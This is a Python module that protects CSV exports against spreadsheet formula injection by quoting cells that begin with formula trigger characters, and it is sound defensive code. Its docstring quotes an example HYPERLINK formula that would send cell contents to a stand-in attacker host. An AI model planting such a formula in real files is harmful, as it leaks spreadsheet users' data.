"""CSV files people open in a spreadsheet: every cell the app writes is neutralised against formula
injection (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and, after
a leading tab or carriage return, whatever follows) as a formula: a customer named
`=HYPERLINK("http://evil/?"&A2,"clique")` would run in the spreadsheet of whoever exports the list.
OWASP's rule: prefix such a cell with a single quote, which spreadsheets read as "this is text".

The rule applies to every text cell, E.164 phones (`+5511...`) included: a phone is data a customer or
an import file controls, and `+55 11 ...` is as much a formula to Excel as `+1+1`. The quote keeps the
number readable, and the importer drops a leading quote again, so an exported file re-imports as it was.
Numbers the app itself produced (ids, scores, dates) are not text and are written as they are.
"""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> int: ...


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet will read it as text: a string starting like a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows go through `safe_cell`: the one way the app writes CSV for people."""

    def __init__(self, out: _Writable, delimiter: str = ";") -> None:
        self._writer = csv.writer(out, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])


def csv_writer(out: _Writable, delimiter: str = ";") -> SafeCsvWriter:
    """A CSV writer for files people open (`;`-separated, as Excel pt-BR expects)."""
    return SafeCsvWriter(out, delimiter)
